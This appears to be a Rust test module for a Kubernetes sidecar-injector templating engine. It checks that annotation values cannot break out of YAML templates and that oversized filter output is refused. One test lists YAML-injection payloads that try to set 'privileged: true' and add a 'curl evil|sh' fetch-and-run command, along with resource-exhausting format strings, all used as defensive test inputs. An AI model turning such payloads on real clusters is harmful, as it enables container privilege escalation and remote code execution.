        assert_eq!(
            parsed["containers"][0]["env"][0],
            json!({"name": "some-api-key", "value": "6feab492"})
        );
        assert_eq!(
            parsed["containers"][0]["env"][1]["value"],
            "x\"\n  privileged: true"
        );
        assert!(parsed["containers"][0].get("privileged").is_none());
    }

    /// Renders whole template `text` for an object whose annotation `a` holds `attack`.
    fn whole(text: &str, attack: &str) -> Result<Value, RenderError> {
        let mut t = Templates::new();
        t.add_sidecar("w", &json!({}), Some(text)).unwrap();
        let pod = json!({"metadata": {"annotations": {"a": attack}}, "spec": {}});
        let values =
            json!({"registry": "r.io", "port": "8080", "env": [{"name": "X", "value": "1"}]});
        t.render_whole(
            "w",
            &context(&pod, &json!({}), "", values.as_object().unwrap()),
        )
        .unwrap()
    }

    #[test]
    fn printed_values_stay_where_the_template_put_them() {
        // Flow context, quotes, a prefix: the attacks of the security review, each of which
        // once closed the template's own quotes and brackets.
        let attacks = [
            "x'}], securityContext: {privileged: true}, command: [/bin/sh, -c, 'curl evil|sh'], ports: [{containerPort: 8080, name: 'p",
            "}], securityContext: {privileged: true}, envFrom: [{prefix: ",
            "x], securityContext: {privileged: true}, stdin: true, args: [y",
            "x\"\n  privileged: true",
            "a\n- b\nc: d",
            "&x *x !!map {} [] # c",
        ];
        let text = "containers:\n- {name: c, image: i, args: [--level={{ a }}, x], env: [{name: A, value: '{{ a }}'}, {name: B, value: \"{{ a }}\"}, {name: C, value: {{ a }} }]}\n- name: d\n  image: i\n  args:\n  - {{ a }}\n  - x-{{ a }}-y\n  - |\n    run {{ a }}\n";
        let text = text.replace("{{ a }}", "{{ annotations.a }}");
        for attack in attacks {
            let out = whole(&text, attack).unwrap();
            assert_eq!(
                out,
                json!({"containers": [
                    {"name": "c", "image": "i", "args": [format!("--level={attack}"), "x"],
                     "env": [{"name": "A", "value": attack}, {"name": "B", "value": attack},
                             {"name": "C", "value": attack}]},
                    {"name": "d", "image": "i",
                     "args": [attack, format!("x-{attack}-y"), format!("run {attack}\n")]},
                ]}),
                "{attack:?}"
            );
        }
    }

    #[test]
    fn printed_values_keep_their_types_as_whole_nodes() {
        let text = "containers:\n- name: c\n  image: {{ values.registry }}/c:1\n  ports:\n  - containerPort: {{ values.port }}\n  - containerPort: {{ 9090 }}\n  env: {{ values.env }}\n  args: [{{ annotations.a }}, '{{ values.port }}']\n  workingDir: {{ none }}\n";
        let out = whole(text, "true").unwrap();
        assert_eq!(
            out["containers"][0],
            json!({"name": "c", "image": "r.io/c:1",
                   "ports": [{"containerPort": 8080}, {"containerPort": 9090}],
                   "env": [{"name": "X", "value": "1"}],
                   // The annotation's text is a string, whatever it looks like; the
                   // configuration's `"8080"` reads as YAML where a node is (trusted text).
                   "args": ["true", "8080"], "workingDir": null})
        );
    }

    #[test]
    fn keys_macros_and_set_blocks() {
        let text = "{% macro env(n, v) %}- name: {{ n }}\n  value: {{ v }}\n{% endmacro %}{% set image %}i:{{ annotations.a }}{% endset %}containers:\n- name: c\n  image: {{ image }}\n  env:\n{{ env('A', annotations.a) | indent(2, true) }}\n  resources:\n    limits:\n      {{ annotations.a }}: 1\n";
        let out = whole(text, "x: y, z").unwrap();
        assert_eq!(
            out["containers"][0],
            json!({"name": "c", "image": "i:x: y, z",
                   "env": [{"name": "A", "value": "x: y, z"}],
                   "resources": {"limits": {"x: y, z": 1}}})
        );
    }

    #[test]
    fn marks_in_templates_and_oversized_values_are_refused() {
        let errs = Templates::new()
            .add_sidecar("m", &json!({}), Some("containers: [\u{E000}0\u{E001}]"))
            .unwrap_err();
        assert!(errs[0].message.contains("U+E000"), "{}", errs[0].message);
        // Each print is small; what they put in together is bounded like the output.
        let text = "containers:\n- name: c\n  image: i\n  args:\n{% for i in range(40) %}  - {{ annotations.a }}\n{% endfor %}";
        let err = whole(text, &"x".repeat(40_000)).unwrap_err();
        assert!(err.message.contains("larger than"), "{}", err.message);
        // A template whose own text is not YAML says where, with the printed value shown
        // as its number.
        let err = whole("containers: [{{ annotations.a }}\n", "v").unwrap_err();
        assert_eq!(err.code, "kinject::template::invalid_yaml");
        assert!(err.message.contains("line 1"), "{}", err.message);
        assert!(err.message.contains("{0}"), "{}", err.message);
    }

    #[test]
    fn filters_refuse_strings_past_the_limit_before_making_them() {
        let mut t = Templates::new();
        for (n, expr) in [
            r#""%999999999s"|format("x")"#,
            r#""{:>999999999}".format("x")"#,
            r#"("x\n" * 1000000)|indent(1000)"#,
            r#"("x\n" * 1000000)|indent(width=1000)"#,
            r#"("x" * 100000)|replace("x", "y" * 10000)"#,
            r#"("x" * 100000).replace("x", "y" * 10000)"#,
        ]
        .iter()
        .enumerate()
        {
            let name = format!("f{n}");
            let def = json!({"x": format!("{{{{ {expr} }}}}")});
            t.add_sidecar(&name, &def, None).unwrap();
            let started = std::time::Instant::now();
            let err = t.render_fields(&name, &def, &ctx()).unwrap_err();
            assert!(
                err.message.contains("more than the"),
                "{expr}: {}",
                err.message
            );
            assert!(started.elapsed().as_secs() < 2, "{expr}: made first");
        }
        // Within the limit they work as minijinja's own.
        let def = json!({"x": "{{ '%5s|%-3d'|format('a', 7) }}{{ 'a\nb'|indent(2) }}{{ 'aXb'|replace('X', '-') }}{{ 'q'.replace('q', 'r') }}"});
        t.add_sidecar("ok", &def, None).unwrap();
        let out = t.render_fields("ok", &def, &ctx()).unwrap();
        assert_eq!(out["x"], "    a|7  a\n  ba-br");
    }

    #[test]
    fn pod_functions_and_parsing_filters() {
        let mut t = Templates::new();
        let def = json!({"containers": [{"name": "p",
            "args": ["{{ annotation('sidecar-injector.expedia.com/some-api-key') }}",
                     "{{ annotation('missing') }}", "{{ annotation('missing', 'd') }}",
                     "{{ service_account() }}"],
            "ports": [{"containerPort": "{{ '8080' | yaml_scalar }}"}],
            "volumeMounts": "{{ '[{\"name\": \"a\", \"mountPath\": \"/a\"}]' | from_json }}",
            "workingDir": "{{ none }}", "command": ["a", "{{ none }}", "{{ none }}", "b"]}]});
        t.add_sidecar("p", &def, None).unwrap();
        let out = t.render_fields("p", &def, &ctx()).unwrap();
        let c = &out["containers"][0];
        assert_eq!(c["args"], json!(["6feab492", "", "d", "billing"]));
        assert_eq!(c["ports"][0]["containerPort"], 8080);
        assert_eq!(c["volumeMounts"], json!([{"name": "a", "mountPath": "/a"}]));
        assert!(c.get("workingDir").is_none(), "a null field is left out");
        assert_eq!(c["command"], json!(["a", "b"]), "so is a null list item");
        // A pod that names no service account runs as `default`.
        let bare = context(&json!({"spec": {}}), &json!({}), "", &Map::new());
        let mut t = Templates::new();
        let def = json!({"x": "{{ service_account() }}", "y": "{{ annotation('a') }}"});
        t.add_sidecar("q", &def, None).unwrap();
        let out = t.render_fields("q", &def, &bare).unwrap();
        assert_eq!(out, json!({"x": "default", "y": ""}));
    }

    #[test]
    fn strict_undefined_and_syntax_errors() {
        let mut t = Templates::new();
        let def = json!({"containers": [{"name": "{{ nope.x }}"}]});
        t.add_sidecar("a", &def, None).unwrap();
        let err = t.render_fields("a", &def, &ctx()).unwrap_err();
        assert_eq!(err.pointer, "/containers/0/name");
        assert!(err.message.contains("undefined"), "{}", err.message);
        let errs = Templates::new()
            .add_sidecar("b", &json!({"x": "{{ a + }}"}), Some("{% for %}"))
            .unwrap_err();
        assert_eq!(errs.len(), 2);
    }
}
